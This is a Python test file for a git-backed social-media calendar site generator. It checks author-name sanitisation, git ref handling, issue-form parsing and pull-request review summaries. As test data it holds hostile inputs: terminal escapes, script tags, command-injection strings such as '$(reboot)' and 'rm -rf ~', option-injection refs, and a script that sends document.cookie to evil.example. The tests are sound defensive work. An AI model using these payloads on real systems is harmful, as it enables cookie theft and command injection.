"""Git and GitHub workflow, with real repositories in temporary folders."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from generator.issue_form import IssueFormError, parse_issue
from generator.pipeline import make_plan
from generator.provenance import MAX_NAME, NO_NAME, _parse, author_name, read_provenance

from .conftest import VALID_POST, cli_build, invoke
from .test_posts import body_of

QUESTION = VALID_POST.replace("2027-03-02", "2027-03-05") + "series: gwti"
ANSWER = VALID_POST.replace("2027-03-02", "2027-03-08") + "series: gwti-answer\nanswer_to: question"


def git(root: Path, *args: str, author: str | bytes = "Ann", when: str = "2027-01-01T10:00:00Z") -> str:
    """git in `root`, hermetic: no system or user configuration, HOME in the repository. The author
    may be raw bytes (git stores a name as given; `commit` re-encodes what is not UTF-8)."""
    env = {
        "GIT_AUTHOR_DATE": when,
        "GIT_COMMITTER_DATE": when,
        "PATH": "/usr/bin:/bin",
        "HOME": str(root),
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_CONFIG_NOSYSTEM": "1",
    }
    name = b"user.name=" + author if isinstance(author, bytes) else f"user.name={author}"
    return subprocess.run(
        ["git", "-C", str(root), "-c", name, "-c", "user.email=a@example.org", "-c", "init.defaultBranch=main", *args],
        check=True,
        capture_output=True,
        text=True,
        env=env,
    ).stdout


@pytest.fixture
def repo(project):
    git(project.root, "init", "-q")
    git(project.root, "add", "-A")
    git(project.root, "commit", "-qm", "registries")
    return project


def test_provenance_follows_additions_edits_and_renames(repo, write) -> None:
    path = write("a.md", VALID_POST)
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "propose", author="Ann", when="2027-01-01T10:00:00Z")
    path.write_text(path.read_text().replace("Text of the post.", "Better text."))
    git(repo.root, "commit", "-qam", "edit", author="Bob", when="2027-01-02T10:00:00Z")
    (repo.content / "posts" / "2027").mkdir()
    git(repo.root, "mv", "content/posts/a.md", "content/posts/2027/a.md")
    git(repo.root, "commit", "-qm", "move", author="Cleo", when="2027-01-03T10:00:00Z")
    history = read_provenance(repo.root).get("content/posts/2027/a.md")
    assert history is not None
    assert (history.proposer, history.last_author, history.revisions) == ("Ann", "Cleo", 3)
    assert history.proposed.isoformat() == "2027-01-01T10:00:00+00:00"
    assert read_provenance(repo.root).get("content/posts/a.md") is None


# Names git accepts in `-c user.name=…` and stores (it only drops line breaks, '<', '>' and
# controls at either end): the record separator that once split the log, terminal escapes,
# quotes and ampersands, a C1 control, 5,000 characters.
HOSTILE_AUTHORS = {
    "sep.md": ("Ann\x1eBob\x1fCy", "Ann\\x1eBob\\x1fCy"),
    "escape.md": ("Eve\x1b]0;pwned\x07 \x1b[2J x", "Eve\\x1b]0;pwned\\x07 \\x1b[2J x"),
    "quotes.md": ('O\'Brien & "Al" x', 'O\'Brien & "Al" x'),
    "c1.md": ("Mal\x9b31mlory\u202eevil", "Mal\\x9b31mlory\\u202eevil"),
    "long.md": ("L" * 5000, "L" * 99 + "…"),
}


def _crafted_commit(root: Path, author_line: bytes) -> None:
    """Commit the index with an author line git itself would never write (bytes as given)."""
    tree = git(root, "write-tree").strip()
    parent = git(root, "rev-parse", "HEAD").strip()
    raw = (
        f"tree {tree}\nparent {parent}\n".encode()
        + b"author " + author_line + b" <e@example.org> 1800000000 +0000\n"
        + b"committer C <c@example.org> 1800000000 +0000\n\ncrafted\n"
    )  # fmt: skip
    (root / ".git" / "crafted").write_bytes(raw)
    commit = git(root, "hash-object", "-t", "commit", "-w", "--literally", ".git/crafted").strip()
    git(root, "update-ref", "HEAD", commit)


def test_author_names_are_data_whatever_their_bytes(repo, write) -> None:
    """Every field of the log is untrusted: no name splits a record, and each is shown as text."""
    for i, (name, (author, _)) in enumerate(HOSTILE_AUTHORS.items()):
        write(name, VALID_POST.replace("10:00", f"1{i}:00"))
        git(repo.root, "add", "-A")
        git(repo.root, "commit", "-qm", name, author=author)
    # Latin-1 bytes, declared as such: git re-encodes them to UTF-8 for the log.
    write("latin.md", VALID_POST.replace("10:00", "18:00"))
    git(repo.root, "add", "-A")
    git(repo.root, "-c", "i18n.commitEncoding=ISO-8859-1", "commit", "-qm", "latin", author="Zo\xeb".encode("latin-1"))
    # Bytes that are not UTF-8 at all, and an ident git cannot parse (a NUL: its date reads "%aI").
    write("bytes.md", VALID_POST.replace("10:00", "19:00"))
    git(repo.root, "add", "-A")
    _crafted_commit(repo.root, b"Mall\xf6ry \xff\x9b31m")
    write("nul.md", VALID_POST.replace("10:00", "20:00"))
    git(repo.root, "add", "-A")
    _crafted_commit(repo.root, b"Nu\0ll")

    history = read_provenance(repo.root)
    for name, (_, shown) in HOSTILE_AUTHORS.items():
        assert history.get(f"content/posts/{name}").proposer == shown, name
    assert history.get("content/posts/latin.md").proposer == "Zoë"
    assert history.get("content/posts/bytes.md").proposer == "Mall\ufffdry \ufffd\ufffd31m"
    assert history.get("content/posts/nul.md") is None  # a commit whose date cannot be read is left out
    assert history.get("content/posts/sep.md").revisions == 1

    _, page = body_of(make_plan(repo).calendar, "quotes")
    assert "<dd>O&#39;Brien &amp; &#34;Al&#34; x, Friday 1 January 2027</dd>" in page
    _, page = body_of(make_plan(repo).calendar, "escape")
    assert "\x1b" not in page and "Eve\\x1b]0;pwned" in page


def test_the_site_builds_whatever_the_authors_are_called(repo, write, pinned) -> None:
    """The whole pipeline: one commit by such a name made every build exit 70."""
    for i, (name, (author, _)) in enumerate(HOSTILE_AUTHORS.items()):
        write(name, VALID_POST.replace("10:00", f"1{i}:00"))
        git(repo.root, "add", "-A")
        git(repo.root, "commit", "-qm", name, author=author)
    write("bytes.md", VALID_POST.replace("10:00", "19:00"))
    git(repo.root, "add", "-A")
    _crafted_commit(repo.root, b"\xff\xfe\x00\x1e")
    result = cli_build(repo)
    assert result.exit_code == 0, result.output
    page = (repo.site / "posts" / "sep" / "index.html").read_text(encoding="utf-8")
    assert "Ann\\x1eBob\\x1fCy" in page and "\x1e" not in page


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (b"<script>alert(1)</script>", "<script>alert(1)</script>"),  # text: the templates escape it
        (b"Ann\nBob\r\n", "Ann\\nBob"),
        (b"", NO_NAME),
        (b"   ", NO_NAME),
        (b"\xc3\xa9\xc3", "é\ufffd"),
        (b"\xe2\x80\xae\xe2\x81\xa6x", "\\u202e\\u2066x"),
        ("é".encode() * 200, "é" * (MAX_NAME - 1) + "…"),
    ],
)
def test_an_author_name_is_shown_as_text_on_one_line(raw: bytes, shown: str) -> None:
    assert author_name(raw) == shown


def test_a_log_field_out_of_place_is_skipped_not_misread() -> None:
    date = b"2027-01-01T10:00:00+00:00"
    log = b"\0".join(
        [
            b"", date, b"Ann", b"\nA", b"content/posts/a.md",
            b"", b"%aI", b"", b"\nA", b"content/posts/b.md",  # an ident git could not parse
            b"", b"9999-12-31T23:59:59-12:00", b"Old", b"\nM", b"content/posts/a.md",  # absurd date
            b"", date, b"Cy", b"\nR100", b"content/posts/c.md",  # a rename cut short
        ]
    )  # fmt: skip
    history = _parse(log)
    assert set(history) == {"content/posts/a.md"}
    assert (history["content/posts/a.md"].proposer, history["content/posts/a.md"].revisions) == ("Ann", 1)


def test_a_folder_without_git_works_with_a_warning(project) -> None:
    prov = read_provenance(project.root)
    assert prov.files == {} and "not a git repository" in prov.warnings[0]


def test_a_shallow_clone_is_reported(repo, write, tmp_path) -> None:
    write("a.md", VALID_POST)
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "x")
    clone = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{repo.root}", str(clone)], check=True)
    assert any("shallow clone" in w for w in read_provenance(clone).warnings)


def test_changed_since_blames_only_the_proposal(repo, write) -> None:
    # An old problem on main (an unknown hashtag, a warning) stays unmentioned.
    write("old.md", VALID_POST.replace('["#LHC"]', '["#OldTag"]'))
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "old")
    git(repo.root, "switch", "-qc", "proposal")
    write("new.md", VALID_POST.replace("10:00", "15:00").replace("twitter-cern", "twiter-cern"))
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "new")
    result = invoke(repo, "validate", "--changed-since", "main")
    assert result.exit_code == 1
    assert "content/posts/new.md:4:10: error SC201" in result.output
    assert "old.md" not in result.output
    assert invoke(repo, "validate").output.count("old.md") == 1  # it is still checked in a full run


def test_a_change_that_breaks_another_file_is_reported_on_that_file(repo, write) -> None:
    write("question.md", QUESTION)
    write("answer.md", ANSWER)
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "gwti")
    git(repo.root, "switch", "-qc", "proposal")
    git(repo.root, "rm", "-q", "content/posts/question.md")
    git(repo.root, "commit", "-qm", "drop the question")
    result = invoke(repo, "validate", "--changed-since", "main")
    assert result.exit_code == 1
    assert "content/posts/answer.md" in result.output and "SC204" in result.output


@pytest.mark.parametrize("ref", ["--output=x", "-h", "main\nHEAD", "no-such-ref"])
def test_refs_from_pull_requests_are_never_options(repo, ref: str, tmp_path: Path) -> None:
    # A process of its own, as in CI (the code under test, not a `socialcal` found on PATH); run
    # from an empty folder, so that an option git took would have left `x` there.
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    proc = subprocess.run(
        [sys.executable, "-m", "generator", "--root", str(repo.root), "validate", "--changed-since", ref],
        capture_output=True,
        text=True,
        cwd=cwd,
    )
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert list(cwd.iterdir()) == [] and not (repo.root / "x").exists()


def test_summary_shows_each_proposed_post_as_it_goes_out_and_clashes(repo, write, tmp_path) -> None:
    write("planned.md", VALID_POST.replace("title: LHC restarts", "title: Already planned"))
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "planned")
    git(repo.root, "switch", "-qc", "proposal")
    write(
        "new.md",
        VALID_POST.replace("10:00", "10:20").replace("title: LHC restarts", "title: 'A | b <i>x</i>'"),
        "Text with <script>alert(1)</script> and *stars*",
    )
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "new")
    summary = tmp_path / "summary.md"
    result = invoke(repo, "validate", "--changed-since", "main", "--summary", str(summary))
    assert result.exit_code == 0, result.output
    text = summary.read_text()
    assert "| Tue 2027-03-02 | 10:20 | twitter\\-cern |" not in text  # ids are not over-escaped
    assert "A \\| b &lt;i&gt;x&lt;/i&gt;" in text
    assert "<pre>Text with &lt;script&gt;alert(1)&lt;/script&gt; and *stars*" in text
    assert "Already planned" in text.split("### Clashes")[1]
    assert "SC401" in text


def test_github_format_prints_every_diagnostic_beyond_ten(repo, write) -> None:
    for i in range(12):
        write(f"p{i}.md", VALID_POST.replace("10:00", f"{8 + i}:30").replace('["#LHC"]', '["#Nope"]'))
    out = invoke(repo, "validate", "--format", "github").output
    assert out.count("::warning ") == 12
    assert out.count("warning SC306") == 12


def test_issue_form_with_hostile_input(project) -> None:
    body = (
        "### Title\n\n../../etc/passwd `$(reboot)`; rm -rf ~\n\n### Date and time\n\n2027-03-05 16:00\n\n"
        "### Channels\n\ntwitter-cern, facebook-cern\n\n### Link\n\nhttps://home.cern/x\n\n"
        "### Hashtags\n\n#CERN #LHC\n\n### Text of the post\n\n$(touch pwned) && echo hi\n---\ntitle: injected\n\n"
        '### Images\n\nhttps://cds.cern.ch/a.jpg | The "ATLAS" cavern\n'
    )
    issue = project.root / "issue.md"
    issue.write_text(body)
    result = invoke(project, "new", "post", "--from-issue", str(issue))
    assert result.exit_code == 0, result.output
    (path,) = (project.content / "posts").rglob("*.md")
    assert path.name == "2027-03-05-etc-passwd-reboot-rm-rf.md"
    assert path.resolve().is_relative_to(project.content.resolve())
    assert not (project.root / "pwned").exists()
    assert invoke(project, "validate").exit_code == 0
    proposal = parse_issue(body)
    assert proposal.meta["title"] == "../../etc/passwd `$(reboot)`; rm -rf ~"
    assert proposal.meta["media"] == [{"src": "https://cds.cern.ch/a.jpg", "alt": 'The "ATLAS" cavern'}]
    assert "title: injected" in proposal.text


def test_issue_form_refuses_huge_or_incomplete_bodies(project) -> None:
    with pytest.raises(IssueFormError, match="at most"):
        parse_issue("### Title\n\n" + "x" * 70_000)
    with pytest.raises(IssueFormError, match="date and time"):
        parse_issue("### Title\n\nHello\n\n### Channels\n\ntwitter-cern\n")
    issue = project.root / "issue.md"
    issue.write_text("### Title\n\n" + "x" * 300_000)
    result = invoke(project, "new", "post", "--from-issue", str(issue))
    assert result.exit_code == 1 and not list((project.content / "posts").rglob("*.md"))


def test_an_issue_proposing_an_invalid_post_writes_it_and_says_what_to_fix(project) -> None:
    body = (
        "### Title\n\nA post\n\n### Date and time\n\n2027-03-05 16:00\n\n### Channels\n\ntwiter-cern\n\n"
        "### Link\n\nhttps://home.cern/x\n\n### Text of the post\n\nHello\n"
    )
    issue = project.root / "issue.md"
    issue.write_text(body)
    result = invoke(project, "new", "post", "--from-issue", str(issue))
    assert result.exit_code == 1
    assert "error SC201 unknown channel 'twiter-cern' (did you mean 'twitter-cern'?)" in result.output
    assert list((project.content / "posts").rglob("*.md"))


def test_a_pull_requests_preview_links_its_posts_to_it(repo, write, monkeypatch) -> None:
    from generator.changes import pull_request_files

    write("planned.md", VALID_POST.replace("title: LHC restarts", "title: Already planned"))
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "planned")
    base = git(repo.root, "rev-parse", "HEAD").strip()
    git(repo.root, "switch", "-qc", "proposal")
    write("new.md", VALID_POST.replace("10:00", "12:00").replace("title: LHC restarts", "title: Proposed here"))
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "new")
    pr = "https://github.com/cern/socialcal/pull/42"
    env = {"SOCIALCAL_PULL_REQUEST": pr, "SOCIALCAL_BASE": base}
    assert pull_request_files(repo.root, env) == {"content/posts/new.md": pr}
    assert pull_request_files(repo.root, {**env, "SOCIALCAL_PULL_REQUEST": "javascript:alert(1)"}) == {}
    assert pull_request_files(repo.root, {**env, "SOCIALCAL_BASE": "--output=x"}) == {}
    assert pull_request_files(repo.root, {}) == {}
    monkeypatch.setenv("SOCIALCAL_TODAY", "2026-11-26")
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    assert invoke(repo, "build").exit_code == 0
    review = (repo.root / "site" / "review" / "index.html").read_text()
    cards = review.split('<article class="sc-pcard')[1:]
    mine = next(c for c in cards if "Proposed here" in c)
    other = next(c for c in cards if "Already planned" in c)
    assert f'href="{pr}"' in mine and pr not in other


# --- what review does not see in content/ ----------------------------------------------------------------

APPROVED_WITH_IMAGE = VALID_POST + "status: approved\nmedia:\n  - src: media/lhc.png\n    alt: The LHC tunnel"


def propose(repo, files: dict[str, bytes | None]) -> None:
    """A branch `proposal` off main that writes (or, for None, deletes) these files, committed."""
    git(repo.root, "switch", "-qc", "proposal")
    for name, data in files.items():
        path = repo.root / name
        if data is None:
            git(repo.root, "rm", "-q", name)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "proposal")


def summary_of(repo, tmp_path) -> tuple[int, str]:
    summary = tmp_path / "summary.md"
    result = invoke(repo, "validate", "--changed-since", "main", "--summary", str(summary))
    return result.exit_code, summary.read_text()


@pytest.fixture
def with_image(repo, write):
    """main has an approved post that shows media/lhc.png, and a page of the team."""
    write("approved.md", APPROVED_WITH_IMAGE)
    (repo.root / "media").mkdir()
    (repo.root / "media" / "lhc.png").write_bytes(b"\x89PNG\r\n\x1a\nthe reviewed picture")
    (repo.root / "pages").mkdir()
    (repo.root / "pages" / "old.md").write_text("# Old page\n")
    git(repo.root, "add", "-A")
    git(repo.root, "commit", "-qm", "approved post")
    return repo


def test_a_pull_request_outside_content_is_listed_with_what_each_file_affects(with_image, tmp_path) -> None:
    script = b"# Team\n\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n"
    propose(
        with_image,
        {
            "pages/team.md": script,
            "media/lhc.png": b"\x89PNG\r\n\x1a\na different picture",
            "generator/diagnostics.py": b"# turns every error into nothing\n",
            ".github/workflows/pr.yml": b"on: push\n",
            "templates/overrides/main.html": b"{% extends 'base.html' %}<script>x</script>\n",
            "mkdocs.yml": (with_image.root / "mkdocs.yml").read_bytes() + b"\nextra_javascript: [x.js]\n",
            "pyproject.toml": b"[project]\nname = 'x'\n",
            "requirements/app.txt": b"evil==1.0\n",
            "pages/old.md": None,
        },
    )
    status, text = summary_of(with_image, tmp_path)
    assert status == 0  # nothing socialcal checks is wrong: the reviewers decide
    head = text.split("### Diagnostics")[0]
    assert "0 post(s) added or changed · ✅ no problems · ⚠️ 9 file(s) changed outside content/, 6 of them code" in head
    rows = {line.split(" | ")[0].strip("| "): line for line in text.splitlines() if line.startswith("| ")}
    assert "page of the site: published as written" in rows["pages/team.md"] and "added" in rows["pages/team.md"]
    assert "deleted" in rows["pages/old.md"]
    assert "shown by 1 post(s): LHC restarts (approved)" in rows["media/lhc.png"]
    for code in (
        "generator/diagnostics.py",
        ".github/workflows/pr.yml",
        "templates/overrides/main.html",
        "mkdocs.yml",
        "pyproject.toml",
        "requirements/app.txt",
    ):
        assert "code: a maintainer reviews" in rows[code], code
    assert "<script>" not in text  # only names and what they affect: nothing of the files themselves


def test_a_page_shadowing_the_themes_script_is_an_error_in_the_pull_request(with_image, tmp_path) -> None:
    propose(with_image, {"pages/assets/javascripts/bundle.a5f9d56c.min.js": b"alert(document.domain)\n"})
    status, text = summary_of(with_image, tmp_path)
    assert status == 1
    assert "❌ 1 error(s)" in text and "SC504" in text
    assert "pages/assets/javascripts/bundle.a5f9d56c.min.js" in text.split("### Files changed outside content/")[1]


def test_a_post_and_a_file_outside_content_are_both_listed(with_image, write, tmp_path) -> None:
    git(with_image.root, "switch", "-qc", "proposal")
    write("new.md", VALID_POST.replace("10:00", "15:00").replace("LHC restarts", "New post"))
    (with_image.root / "media" / "new.png").write_bytes(b"\x89PNG\r\n\x1a\nnew")
    git(with_image.root, "add", "-A")
    git(with_image.root, "commit", "-qm", "proposal")
    status, text = summary_of(with_image, tmp_path)
    assert status == 0
    assert "1 post(s) added or changed · ✅ no problems · ⚠️ 1 file(s) changed outside content/" in text
    assert "| media/new.png | added | media: no post shows it |" in text
